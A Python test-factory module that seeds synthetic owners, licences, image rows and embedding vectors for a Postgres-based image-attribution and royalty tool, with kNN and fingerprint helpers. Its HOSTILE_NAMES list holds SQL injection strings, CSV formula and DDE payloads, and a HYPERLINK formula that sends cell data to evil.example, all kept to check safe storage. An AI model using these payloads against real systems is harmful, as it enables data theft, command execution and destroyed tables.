"""The test world: synthetic rows and vectors, image files, exact references and shared checks.

Tests of match / value / report / audit need rows and vectors without running ingest or a model.
`seed()` builds a whole small world in one call; the smaller helpers add to it.

    from tests.factories import seed
    world = seed(conn, n_training=200, n_generated=50, dim=16, space="test", owners=3, seed=0)
    world["space"]            # the EmbeddingSpace
    world["training_ids"]     # np.ndarray of training_id, row i <-> world["training_vectors"][i]

Vectors are clustered (so nearest neighbours are meaningful and ties are rare). Identities
(sha256) are derived from (space, seed, kind, index), so two seeds or two spaces in one
database never collide. Every write uses parameters (never string-built SQL), so hostile names
are stored verbatim.

Also here: the exact kNN reference (`numpy_knn`), the one image writer (`write_image`), `sha256`,
table fingerprints for before/after comparisons, the reader's URL and `refused()` for one-line
CLI refusals.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import resource
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
import psycopg
import pytest
from psycopg import sql

from gmv_sql import spaces
from gmv_sql.embed import store

# A fixed month so royalty tests can ask for period 2026-01 without computing it.
DEFAULT_CREATED_AT = dt.datetime(2026, 1, 15, 12, 0, tzinfo=dt.timezone.utc)
DEFAULT_PERIOD = "2026-01"

HOSTILE_NAMES = [
    "O'Brien & Sons",
    'Quote "double" \\ backslash',
    "semi;colon; DROP TABLE gmv.owner; --",
    "'; DROP TABLE gmv.training_image; --",
    "Robert'); DROP TABLE gmv.match;--",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
    "line one\nline two",
    "Zoë Ångström — 東京 🎨",
    "\u202eright-to-left override",
    "ansi \x1b[31mred\x1b[0m escape",
    "$$ dollar $$ quoting $tag$",
    "100%_wildcards_%",
    "x" * 2000,
]


def sha256(data: bytes | str | Path) -> str:
    """Hex sha256 of bytes, of a text (UTF-8), or of a file's bytes (a Path)."""
    if isinstance(data, Path):
        data = data.read_bytes()
    elif isinstance(data, str):
        data = data.encode()
    return hashlib.sha256(data).hexdigest()


def _sha(*parts: object) -> str:
    return sha256(":".join(map(str, parts)))


# ------------------------------------------------------------------------------------------- rows


def make_owner(conn: psycopg.Connection, name: str) -> int:
    """The owner's id, created if missing."""
    row = conn.execute(
        "INSERT INTO gmv.owner (name) VALUES (%s) ON CONFLICT (name) DO UPDATE SET name = EXCLUDED.name "
        "RETURNING owner_id",
        (name,),
    ).fetchone()
    return int(row[0])


def make_license(
    conn: psycopg.Connection, name: str, *, royalty_bearing: bool = True, excluded: bool = False
) -> int:
    """The licence's id, created (or updated to these flags) as needed."""
    row = conn.execute(
        "INSERT INTO gmv.license (name, royalty_bearing, excluded) VALUES (%s, %s, %s) "
        "ON CONFLICT (name) DO UPDATE SET royalty_bearing = EXCLUDED.royalty_bearing, excluded = EXCLUDED.excluded "
        "RETURNING license_id",
        (name, royalty_bearing, excluded),
    ).fetchone()
    return int(row[0])


def make_run(conn: psycopg.Connection, generator: str = "test-generator", run: str = "run-1") -> int:
    gen_id = conn.execute(
        "INSERT INTO gmv.generator (name) VALUES (%s) ON CONFLICT (name) DO UPDATE SET name = EXCLUDED.name "
        "RETURNING generator_id",
        (generator,),
    ).fetchone()[0]
    row = conn.execute(
        "INSERT INTO gmv.generation_run (generator_id, name) VALUES (%s, %s) "
        "ON CONFLICT (generator_id, name) DO UPDATE SET name = EXCLUDED.name RETURNING run_id",
        (gen_id, run),
    ).fetchone()
    return int(row[0])


def add_training_images(
    conn: psycopg.Connection,
    owner_ids: Sequence[int],
    license_ids: Sequence[int],
    *,
    tag: str = "t",
    opted_out: Sequence[bool] | None = None,
    files: Sequence[Path] | None = None,
) -> np.ndarray:
    """Insert len(owner_ids) training images (owner_ids[i], license_ids[i]); their ids in the same order.

    files: real image files (sha256 of their bytes, their path as uri), as ingest would store them;
    otherwise synthetic identities derived from tag.
    """
    n = len(owner_ids)
    if len(license_ids) != n:
        raise ValueError("owner_ids and license_ids must have the same length")
    shas, uris = _identities("training", tag, n, files)
    flags = list(opted_out) if opted_out is not None else [False] * n
    rows = conn.execute(
        "INSERT INTO gmv.training_image (sha256, uri, owner_id, license_id, opted_out) "
        "SELECT * FROM unnest(%s::text[], %s::text[], %s::bigint[], %s::bigint[], %s::boolean[]) "
        "RETURNING sha256, training_id",
        (shas, uris, [int(x) for x in owner_ids], [int(x) for x in license_ids], flags),
    ).fetchall()
    by_sha = dict(rows)
    return np.array([by_sha[s] for s in shas], dtype=np.int64)


def add_generated_images(
    conn: psycopg.Connection,
    n: int,
    run_id: int,
    *,
    tag: str = "g",
    quality: Sequence[float] | None = None,
    created_at: Sequence[dt.datetime] | dt.datetime | None = None,
    files: Sequence[Path] | None = None,
) -> np.ndarray:
    """Insert n generated images of one run; their ids in order (files: as in add_training_images)."""
    shas, uris = _identities("generated", tag, n, files)
    qualities = [float(q) for q in quality] if quality is not None else [1.0] * n
    if created_at is None or isinstance(created_at, dt.datetime):
        created = [created_at or DEFAULT_CREATED_AT] * n
    else:
        created = list(created_at)
    rows = conn.execute(
        "INSERT INTO gmv.generated_image (sha256, uri, run_id, quality, created_at) "
        "SELECT s, u, %s, q, c FROM unnest(%s::text[], %s::text[], %s::float8[], %s::timestamptz[]) AS x(s, u, q, c) "
        "RETURNING sha256, generated_id",
        (run_id, shas, uris, qualities, created),
    ).fetchall()
    by_sha = dict(rows)
    return np.array([by_sha[s] for s in shas], dtype=np.int64)


def _identities(kind: str, tag: str, n: int, files: Sequence[Path] | None) -> tuple[list[str], list[str]]:
    if files is not None:
        if len(files) != n:
            raise ValueError(f"{len(files)} files for {n} images")
        return [sha256(Path(f)) for f in files], [str(f) for f in files]
    return [_sha(kind, tag, i) for i in range(n)], [f"synthetic://{kind}/{tag}/{i}.png" for i in range(n)]


def add_images_from_files(
    conn: psycopg.Connection,
    training: Sequence[Path] = (),
    generated: Sequence[Path] = (),
    *,
    owner: str = "a",
    license: str = "cc0",
) -> dict[str, np.ndarray]:
    """Image files recorded as ingest records them (one owner, licence and run), without vectors."""
    with conn.transaction():
        owner_id, license_id = make_owner(conn, owner), make_license(conn, license)
        training_ids = add_training_images(
            conn, [owner_id] * len(training), [license_id] * len(training), files=training
        )
        generated_ids = add_generated_images(conn, len(generated), make_run(conn), files=generated)
    return {"training_ids": training_ids, "generated_ids": generated_ids}


# ---------------------------------------------------------------------------------------- vectors


def clustered_vectors(
    rng: np.random.Generator, n_training: int, n_generated: int, dim: int, *, n_clusters: int | None = None
) -> tuple[np.ndarray, np.ndarray]:
    """Training vectors around cluster centres; generated vectors near randomly chosen training vectors."""
    n_clusters = n_clusters or max(2, min(50, n_training // 10 or 1))
    centres = rng.normal(size=(n_clusters, dim))
    labels = rng.integers(0, n_clusters, size=n_training)
    training = centres[labels] + 0.35 * rng.normal(size=(n_training, dim))
    if n_training:
        parents = rng.integers(0, n_training, size=n_generated)
        generated = training[parents] + 0.25 * rng.normal(size=(n_generated, dim))
    else:
        generated = rng.normal(size=(n_generated, dim))
    return training.astype(np.float32), generated.astype(np.float32)


def numpy_knn(
    training: np.ndarray,
    generated: np.ndarray,
    k: int,
    *,
    distance: str = "cosine",
    eligible: np.ndarray | None = None,
) -> tuple[np.ndarray, np.ndarray]:
    """Exact k nearest neighbours (indices into training, distances), pgvector's distance definitions."""
    t = training.astype(np.float64)
    g = generated.astype(np.float64)
    if distance == "cosine":
        tn = t / np.linalg.norm(t, axis=1, keepdims=True)
        gn = g / np.linalg.norm(g, axis=1, keepdims=True)
        d = 1.0 - gn @ tn.T
    elif distance == "l2":
        d = np.sqrt(np.maximum(((g[:, None, :] - t[None, :, :]) ** 2).sum(-1), 0))
    elif distance == "inner_product":
        d = -(g @ t.T)
    else:
        raise ValueError(distance)
    if eligible is not None:
        d = np.where(eligible[None, :], d, np.inf)
    order = np.argsort(d, axis=1, kind="stable")[:, :k]
    return order, np.take_along_axis(d, order, axis=1)


def add_matches(
    conn: psycopg.Connection,
    space,
    generated_ids: Sequence[int],
    generated_vectors: np.ndarray,
    training_ids: Sequence[int],
    training_vectors: np.ndarray,
    k: int,
    *,
    eligible: np.ndarray | None = None,
) -> None:
    """Exact top-k (numpy_knn) written to gmv.match, as the matcher would (with the calibration `gmv match`
    adds to a space without one): seed data for value/report."""
    conn.execute("UPDATE gmv.embedding_space SET match_k = %s WHERE space_id = %s", (k, space.space_id))
    order, dist = numpy_knn(
        training_vectors, generated_vectors, k, distance=space.distance, eligible=eligible
    )
    with (
        conn.cursor() as cur,
        cur.copy(
            "COPY gmv.match (space_id, generated_id, rank, training_id, distance, k) FROM STDIN"
        ) as copy,
    ):
        for j, generated_id in enumerate(generated_ids):
            for r in range(order.shape[1]):
                if np.isfinite(dist[j, r]):
                    copy.write_row(
                        (
                            space.space_id,
                            int(generated_id),
                            r + 1,
                            int(training_ids[order[j, r]]),
                            float(dist[j, r]),
                            k,
                        )
                    )
    # As `gmv match` does: the space's first matches give its softmax_calibrated temperature.
    from gmv_sql.value.calibration import calibrate_missing

    calibrate_missing(conn, space.space_id)


# ------------------------------------------------------------------------------------------ world


def seed(
    conn: psycopg.Connection,
    n_training: int = 200,
    n_generated: int = 50,
    dim: int = 16,
    space: str = "test",
    owners: int | Sequence[str] = 3,
    seed: int = 0,
    *,
    licenses: Sequence[tuple[str, bool, bool] | str] = (("paid", True, False),),
    quality: str | Sequence[float] | None = None,
    created_at: Sequence[dt.datetime] | dt.datetime | None = None,
    months: int = 1,
    opted_out_fraction: float = 0.0,
    opted_out: Sequence[bool] | None = None,
    distance: str = "cosine",
    storage: str | None = None,
    n_clusters: int | None = None,
    training_vectors: np.ndarray | None = None,
    generated_vectors: np.ndarray | None = None,
    generator: str = "test-generator",
    run: str = "run-1",
    k: int | None = None,
    with_matches: bool = True,
    pool: str | None = None,
    scheme: str | None = None,
    index_precision: str = "half",
) -> dict[str, Any]:
    """Seed owners, licences, training/generated images and their vectors in one embedding space.

    owners: a count (names owner-0, owner-1, …) or the names. licenses: names or (name,
    royalty_bearing, excluded) tuples; training image i gets owner i % owners and licence
    i % len(licenses). quality: None (all 1), "random" (uniform 0.2..3) or explicit values.
    opted_out: a flag per training image (else a random opted_out_fraction of them).
    created_at: one timestamp or one per generated image; by default DEFAULT_CREATED_AT, or with
    months > 1 image j lands in month j % months from 2026-01.
    k: also write the exact top-k matches (as `gmv match --exact` would, eligible images only)
    unless with_matches is False, and set the space's match_k. pool: an amount for a revenue pool
    of DEFAULT_PERIOD in EUR, space and default scheme. scheme: the space's default scheme (else the
    database's default for new spaces, softmax_calibrated).
    All in one transaction (on a transactional connection, a savepoint the caller commits).

    Returns a dict: space (EmbeddingSpace), owner_ids, owner_names, license_ids, license_names,
    run_id, training_ids, generated_ids, training_vectors, generated_vectors, quality (np arrays),
    training_owner, training_license (per-training-image owner/licence ids), opted_out (bool array),
    eligible (bool array), k.
    """
    rng = np.random.default_rng(seed)
    tag = f"{space}:{seed}"
    owner_names = [f"owner-{i}" for i in range(owners)] if isinstance(owners, int) else list(owners)
    licenses = [(lic, True, False) if isinstance(lic, str) else lic for lic in licenses]
    license_names = [name for name, _, _ in licenses]

    if training_vectors is None or generated_vectors is None:
        tv, gv = clustered_vectors(rng, n_training, n_generated, dim, n_clusters=n_clusters)
        training_vectors = tv if training_vectors is None else training_vectors
        generated_vectors = gv if generated_vectors is None else generated_vectors
    training_vectors = np.asarray(training_vectors, dtype=np.float32)
    generated_vectors = np.asarray(generated_vectors, dtype=np.float32)
    n_training, dim = training_vectors.shape
    n_generated = len(generated_vectors)
    if created_at is None and months > 1:
        created_at = [DEFAULT_CREATED_AT + dt.timedelta(days=31 * (j % months)) for j in range(n_generated)]

    with conn.transaction():
        owner_ids = [make_owner(conn, name) for name in owner_names]
        license_ids = [make_license(conn, name, royalty_bearing=rb, excluded=ex) for name, rb, ex in licenses]
        run_id = make_run(conn, generator, run)

        training_owner = np.array([owner_ids[i % len(owner_ids)] for i in range(n_training)], dtype=np.int64)
        training_license = np.array(
            [license_ids[i % len(license_ids)] for i in range(n_training)], dtype=np.int64
        )
        if opted_out is not None:
            opted_out = np.asarray(opted_out, dtype=bool)
        elif opted_out_fraction:
            opted_out = rng.random(n_training) < opted_out_fraction
        else:
            opted_out = np.zeros(n_training, bool)
        training_ids = add_training_images(
            conn, training_owner, training_license, tag=tag, opted_out=opted_out.tolist()
        )

        if isinstance(quality, str):
            if quality != "random":
                raise ValueError(f"quality must be None, 'random' or a sequence, not {quality!r}")
            qualities = rng.uniform(0.2, 3.0, size=n_generated)
        elif quality is None:
            qualities = np.ones(n_generated)
        else:
            qualities = np.asarray(quality, dtype=float)
        generated_ids = add_generated_images(
            conn, n_generated, run_id, tag=tag, quality=qualities, created_at=created_at
        )

        emb_space = spaces.get_or_create_space(
            conn,
            space,
            model="synthetic",
            dim=dim,
            distance=distance,
            storage=storage,
            index_precision=index_precision,
        )
        if scheme is not None:
            conn.execute(
                "UPDATE gmv.embedding_space SET default_scheme_id ="
                " (SELECT scheme_id FROM gmv.valuation_scheme WHERE name = %s) WHERE space_id = %s",
                (scheme, emb_space.space_id),
            )
        store.copy_vectors(conn, emb_space, "training", training_ids, training_vectors, source="factory")
        store.copy_vectors(conn, emb_space, "generated", generated_ids, generated_vectors, source="factory")
        excluded = {lid for lid, (_, _, ex) in zip(license_ids, licenses, strict=True) if ex}
        eligible = ~opted_out & ~np.isin(training_license, list(excluded))
        if k is not None and with_matches:
            add_matches(
                conn,
                emb_space,
                generated_ids,
                generated_vectors,
                training_ids,
                training_vectors,
                k,
                eligible=eligible,
            )
        elif k is not None:
            conn.execute(
                "UPDATE gmv.embedding_space SET match_k = %s WHERE space_id = %s", (k, emb_space.space_id)
            )
        if pool is not None:
            add_pool(conn, emb_space, pool)
    return {
        "space": emb_space,
        "owner_ids": owner_ids,
        "owner_names": owner_names,
        "license_ids": license_ids,
        "license_names": license_names,
        "run_id": run_id,
        "training_ids": training_ids,
        "generated_ids": generated_ids,
        "training_vectors": training_vectors,
        "generated_vectors": generated_vectors,
        "quality": qualities,
        "training_owner": training_owner,
        "training_license": training_license,
        "opted_out": opted_out,
        "eligible": eligible,
        "k": k,
    }


def add_pool(
    conn: psycopg.Connection, space, amount: str, period: str = DEFAULT_PERIOD, currency: str = "EUR"
) -> None:
    """A revenue pool for one month of the space under its default valuation scheme."""
    conn.execute(
        "INSERT INTO gmv.revenue_pool (period, amount, currency, space_id, scheme_id)"
        " SELECT %s::date, %s, %s, sp.space_id,"
        " coalesce(sp.default_scheme_id, (SELECT scheme_id FROM gmv.valuation_scheme WHERE is_default))"
        " FROM gmv.embedding_space sp WHERE sp.space_id = %s",
        (f"{period}-01", amount, currency, space.space_id),
    )


def add_generated(
    conn: psycopg.Connection, world: dict[str, Any], n: int, *, start: int, seed: int = 1
) -> np.ndarray:
    """n more generated images of the world's run with vectors (and exact matches when the world has k):
    something new for a refresh to publish. start keeps their identities apart from earlier calls."""
    rng = np.random.default_rng(seed)
    space = world["space"]
    with conn.transaction():
        ids = add_generated_images(
            conn, n, world["run_id"], tag=f"{space.name}:extra:{start}", created_at=DEFAULT_CREATED_AT
        )
        vectors = rng.normal(size=(n, space.dim)).astype(np.float32)
        store.copy_vectors(conn, space, "generated", ids, vectors, source="factory")
        if world.get("k"):
            add_matches(
                conn,
                space,
                ids,
                vectors,
                world["training_ids"],
                world["training_vectors"],
                world["k"],
                eligible=world.get("eligible"),
            )
    return ids


# ------------------------------------------------------------------------------------------ files


def write_image(
    path: Path, *, seed: int = 0, size: int | tuple[int, int] = 8, mode: str = "RGB", **save: Any
) -> Path:
    """A small image of random pixels (different bytes for every seed), in the format of path's suffix.

    size: side of a square, or (width, height); mode: RGB, RGBA or L; save: PIL save options.
    """
    from PIL import Image

    width, height = (size, size) if isinstance(size, int) else size
    channels = {"RGB": 3, "L": 1, "RGBA": 4}[mode]
    pixels = np.random.default_rng(seed).integers(0, 256, size=(height, width, channels), dtype=np.uint8)
    image = Image.fromarray(pixels[..., 0] if channels == 1 else pixels, mode=mode)
    path.parent.mkdir(parents=True, exist_ok=True)
    image.save(path, **save)
    return path


# -------------------------------------------------------------------------------- checks and views


def reader_url(db_url: str) -> str:
    from gmv_sql.db.commands import with_user

    return with_user(db_url, "gmv_reader")


def relations(conn: psycopg.Connection, schema: str = "gmv", kinds: str = "rm") -> list[str]:
    """Tables (r) and materialized views (m) of a schema, sorted; per-space vector tables included."""
    rows = conn.execute(
        "SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
        "WHERE n.nspname = %s AND c.relkind = ANY(%s) ORDER BY c.relname",
        (schema, list(kinds)),
    ).fetchall()
    return [r[0] for r in rows]


def fingerprint(conn: psycopg.Connection, relation: str, schema: str = "gmv") -> tuple[int, str]:
    """(row count, md5 of every row's text, sorted): equal iff the relation holds the same rows."""
    stmt = sql.SQL(
        "SELECT count(*), md5(coalesce(string_agg(t::text, E'\\n' ORDER BY t::text), '')) FROM {}.{} AS t"
    ).format(sql.Identifier(schema), sql.Identifier(relation))
    count, digest = conn.execute(stmt).fetchone()
    return count, digest


def fingerprints(
    conn: psycopg.Connection, schema: str = "gmv", kinds: str = "r"
) -> dict[str, tuple[int, str]]:
    return {rel: fingerprint(conn, rel, schema) for rel in relations(conn, schema, kinds)}


def query_fingerprint(conn: psycopg.Connection, query: str, params=()) -> tuple[int, str]:
    """(count, md5) of a query's rows, for comparing databases on natural keys."""
    rows = conn.execute(query, params).fetchall()
    text = "\n".join(sorted(repr(tuple(r)) for r in rows))
    return len(rows), hashlib.md5(text.encode()).hexdigest()


def refused(gmv, *args: object, reason: str) -> str:
    """Run gmv in-process; it must fail with one 'Error: …' line that contains reason (a crash, or a
    refusal for another reason, is not the refusal asked for). Returns the line."""
    result = gmv(*args, ok=False)
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), repr(result.exception)  # not an uncaught exception
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    assert reason in lines[0], f"refused, but not for {reason!r}: {lines[0]}"
    return lines[0]


MEMORY_LIMIT = (
    2 << 30
)  # address space per bounded gmv process: ample for ingest and import, not for /dev/zero


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def run_bounded(gmv, *args, timeout: float = 60) -> subprocess.CompletedProcess:
    """Run gmv as a process with a memory cap; a hang past timeout is a failure, not a stuck suite."""
    proc = gmv.popen(
        *args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=_limit_memory
    )
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        pytest.fail(f"gmv {' '.join(map(str, args))} still running after {timeout}s (hang):\n{err[-2000:]}")
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)
